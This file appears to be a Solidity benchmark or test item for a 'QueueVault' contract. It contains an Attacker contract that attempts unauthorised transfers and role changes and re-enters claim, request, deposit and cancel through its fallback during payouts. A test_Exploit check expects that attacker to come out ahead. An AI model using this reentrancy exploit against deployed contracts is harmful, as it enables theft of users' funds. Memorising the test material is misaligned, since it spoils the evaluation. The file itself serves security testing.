// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./QueueVault.sol";

// assay-canary-9ae9fa1d-bcd2-4fbc-a25a-ac2355d687c4

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Attacker {
    QueueVault private vault;
    address private other;
    uint256 private mode;

    constructor(QueueVault _vault, address _other) public {
        vault = _vault;
        other = _other;
    }

    function _try(bytes memory _data) private returns (bool ok) {
        (ok, ) = address(vault).call(_data);
    }

    function _put(uint256 _value) private {
        (bool ok, ) = address(vault).call{value: _value}(abi.encodeWithSelector(vault.deposit.selector, address(this)));
        ok;
    }

    function _claim() private {
        _try(abi.encodeWithSelector(vault.claim.selector, address(this)));
    }

    function _request() private {
        _try(abi.encodeWithSelector(vault.request.selector, vault.balanceOf(address(this))));
    }

    function enter() external {
        // in the place of others
        _try(abi.encodeWithSelector(vault.transferFrom.selector, other, address(this), 1 ether));
        _try(abi.encodeWithSelector(vault.request.selector, 1 ether));
        _claim();
        _try(abi.encodeWithSelector(vault.setStrategist.selector, address(this)));
        _try(abi.encodeWithSelector(vault.setGovernance.selector, address(this)));
        // in and out, and too early
        _put(1 ether);
        _request();
        _claim();
        _try(abi.encodeWithSelector(vault.cancel.selector));
        _try(abi.encodeWithSelector(vault.cancel.selector));
        _claim();
        _request();
        _put(address(this).balance);
        _request();
        _claim();
    }

    function leave() external {
        // turns the credit into shares while it is paid
        mode = 1;
        _claim();
        _request();
        // deposits while it is paid
        mode = 2;
        _claim();
        _put(address(this).balance / 2);
        _request();
        mode = 0;
    }

    function again() external {
        // requests while it is paid
        mode = 3;
        _claim();
        _put(address(this).balance);
        _request();
        mode = 0;
    }

    function end() external {
        // claims while it is paid
        mode = 4;
        _claim();
        mode = 0;
        _claim();
    }

    receive() external payable {
        if (mode == 1) _try(abi.encodeWithSelector(vault.cancel.selector));
        if (mode == 2) _put(msg.value);
        if (mode == 3) _request();
        if (mode == 4) _claim();
    }
}

// tries what is locked while it is paid, and counts what the lock refuses
contract Hook {
    QueueVault private vault;
    address private other;
    uint256 public refused;

    constructor(QueueVault _vault, address _other) public {
        vault = _vault;
        other = _other;
    }

    function _try(uint256 _value, bytes memory _data) private {
        (bool ok, bytes memory why) = address(vault).call{value: _value}(_data);
        bytes memory lock = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
        if (!ok && keccak256(why) == keccak256(lock)) refused++;
    }

    receive() external payable {
        _try(0, abi.encodeWithSelector(vault.claim.selector, other));
        _try(0, abi.encodeWithSelector(vault.request.selector, 1 ether));
        _try(1 ether, abi.encodeWithSelector(vault.deposit.selector, other));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    address private constant GOVERNANCE = address(0x60);
    address private constant STRATEGIST = address(0x57);
    uint256 private constant START = 1_600_000_000;

    QueueVault private vault;
    Attacker private outsider;

    function setUp() public {
        vm.warp(START);
        vm.prank(GOVERNANCE);
        vault = new QueueVault(STRATEGIST);
        vm.deal(ANA, 40 ether);
        vm.prank(ANA);
        vault.deposit{value: 30 ether}(ANA);
        vm.deal(STRATEGIST, 10 ether);
        outsider = new Attacker(vault, ANA);
        vm.deal(address(outsider), 8 ether);
    }

    function test_Regular() public {
        vm.prank(STRATEGIST);
        vault.report{value: 6 ether}();
        require(vault.pool() == 30 ether && vault.lockedProfit() == 6 ether, "reported");
        vm.warp(START + 3.5 days);
        require(vault.pool() == 33 ether, "half of it");
        vm.prank(STRATEGIST);
        vault.report{value: 4 ether}();
        require(vault.lockedProfit() == 7 ether, "more");
        vm.prank(ANA);
        vault.deposit{value: 3.3 ether}(BEN);
        require(vault.balanceOf(BEN) == 3 ether && vault.totalSupply() == 33 ether, "in");
        vm.startPrank(BEN);
        vault.request(1 ether);
        require(vault.credit(BEN) == 1.1 ether && vault.total() == 42.2 ether, "requested");
        vm.warp(START + 6.5 days);
        vault.claim(BEN);
        require(BEN.balance == 1.1 ether && vault.credit(BEN) == 0, "claimed");
        vm.warp(START + 10.5 days);
        require(vault.lockedProfit() == 0, "all of it");
        vault.request(1 ether);
        uint256 amount = vault.credit(BEN);
        require(amount == (vault.total() + vault.credit(BEN)) / 32, "a share of the profit");
        vault.cancel();
        require(vault.credit(BEN) == 0 && vault.balanceOf(BEN) >= 2 ether - 2, "cancelled");
        vault.transfer(ANA, 0.5 ether);
        vault.approve(ANA, 0.5 ether);
        vault.increaseAllowance(ANA, 2);
        vault.decreaseAllowance(ANA, 1);
        vm.stopPrank();
        vm.prank(ANA);
        vault.transferFrom(BEN, ANA, 0.5 ether);
        require(vault.balanceOf(ANA) == 31 ether && vault.allowance(BEN, ANA) == 1, "moved");
        vm.startPrank(GOVERNANCE);
        vault.setStrategist(BEN);
        vault.setGovernance(ANA);
        vm.stopPrank();
        require(vault.strategist() == BEN && vault.governance() == ANA, "roles");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesUsers() public {
        vm.startPrank(ANA);
        vm.expectRevert("!min");
        vault.deposit{value: 1e15 - 1}(ANA);
        vm.expectRevert("!shares");
        vault.request(0);
        vm.expectRevert("!min");
        vault.cancel();
        vm.expectRevert("!credit");
        vault.claim(ANA);
        vault.request(1e15 - 1);
        vm.expectRevert("!min");
        vault.cancel();
        vm.warp(START + 3 days - 1);
        vm.expectRevert("!due");
        vault.claim(ANA);
        vm.warp(START + 3 days);
        vault.request(1);
        vm.expectRevert("!due");
        vault.claim(ANA);
        vm.expectRevert();
        vault.request(30 ether);
        vm.stopPrank();
    }

    function test_RefusesOthers() public {
        vm.startPrank(ANA);
        vm.expectRevert("!strategist");
        vault.report{value: 1}();
        vm.expectRevert("!governance");
        vault.setStrategist(ANA);
        vm.expectRevert("!governance");
        vault.setGovernance(ANA);
        vault.request(30 ether - 1e15 + 1);
        vm.stopPrank();
        vm.prank(STRATEGIST);
        vm.expectRevert("!supply");
        vault.report{value: 1}();
        vm.prank(ANA);
        vault.transfer(BEN, 1);
        vm.prank(BEN);
        vm.expectRevert();
        vault.transferFrom(ANA, BEN, 1);
    }

    function test_RefusesReentry() public {
        Hook hook = new Hook(vault, BEN);
        vm.startPrank(ANA);
        vault.transfer(address(hook), 2 ether);
        vault.request(1 ether);
        vm.stopPrank();
        vm.prank(address(hook));
        vault.request(1 ether);
        vm.warp(START + 3 days);
        vm.prank(ANA);
        vault.claim(address(hook));
        require(hook.refused() == 3, "entered again");
    }

    function exploit() public {
        outsider.enter();
        vm.warp(START + 3 days);
        outsider.leave();
        vm.warp(START + 6 days);
        outsider.again();
        vm.warp(START + 9 days);
        outsider.end();
    }

    function test_Exploit() public {
        exploit();
        require(address(outsider).balance >= 8 ether + 7 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(outsider);
    }
}
